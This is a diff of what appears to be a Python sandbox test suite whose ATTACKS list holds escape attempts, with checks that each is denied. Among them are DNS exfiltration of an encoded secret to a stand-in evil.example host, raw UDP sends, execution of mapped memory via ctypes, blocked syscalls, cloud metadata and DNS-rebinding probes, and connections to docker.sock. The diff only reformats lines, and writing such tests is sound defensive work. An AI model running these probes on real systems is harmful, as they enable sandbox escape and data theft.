@@ -162,8 +162,7 @@ ATTACKS = [
         TRY + "import socket\nattempt('name', lambda: socket.getaddrinfo('c2VjcmV0.evil.example', 443))\n"
         "def send():\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n    return s.sendto(b'data', ('8.8.8.8', 53))\nattempt('datagram', send)",
         lambda ran, cell: (
-            bool(ran.events("dns", "c2vjcmv0.evil.example", cell))
-            and bool(ran.events("connect", "8.8.8.8:53", cell))
+            bool(ran.events("dns", "c2vjcmv0.evil.example", cell)) and bool(ran.events("connect", "8.8.8.8:53", cell))
             if ran.receipt.enforcement.level == "A"
             else bool(ran.events("call", "socket", cell))
         ),
@@ -178,9 +177,7 @@ ATTACKS = [
         "code += '''print('GOT THROUGH', ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(m)))())'''\n"
         "import subprocess, sys, platform\nif platform.machine() == 'x86_64':\n"
         "    r = subprocess.run([sys.executable, '-c', code], capture_output=True, text=True)\n    print('int 0x80:', r.returncode, r.stdout)",
-        all_of(
-            has("call", "io_uring_setup", "denied"), has("call", "keyctl", "denied"), has("call", "bpf", "denied")
-        ),
+        all_of(has("call", "io_uring_setup", "denied"), has("call", "keyctl", "denied"), has("call", "bpf", "denied")),
     ),
     Attack(
         "what starts later in the home folder",
@@ -233,9 +230,7 @@ ATTACKS = [
             has("host", "169.254.169.254", "denied"),
             has("host", "allowed.example:22", "denied"),
             has("host", "rebind.example", "denied"),
-            lambda ran, cell: (
-                "TLS asked for 'evil.example'" in str(ran.events("host", "allowed.example:443", cell))
-            ),
+            lambda ran, cell: "TLS asked for 'evil.example'" in str(ran.events("host", "allowed.example:443", cell)),
         ),
     ),
     # -- beyond the first list ------------------------------------------------------------------------------------
@@ -249,8 +244,7 @@ ATTACKS = [
     ),
     Attack(
         "a named Unix socket of this machine",
-        TRY
-        + "import socket\ns = socket.socket(socket.AF_UNIX)\nattempt('socket', lambda: s.connect('@SOCKET@'))\n"
+        TRY + "import socket\ns = socket.socket(socket.AF_UNIX)\nattempt('socket', lambda: s.connect('@SOCKET@'))\n"
         "for p in ('/var/run/docker.sock', '/run/user/1000/bus', '/run/dbus/system_bus_socket'):\n    attempt(p, lambda: socket.socket(socket.AF_UNIX).connect(p))",
         all_of(has("connect", "host.sock", "denied"), has("connect", "docker.sock", "denied")),
     ),
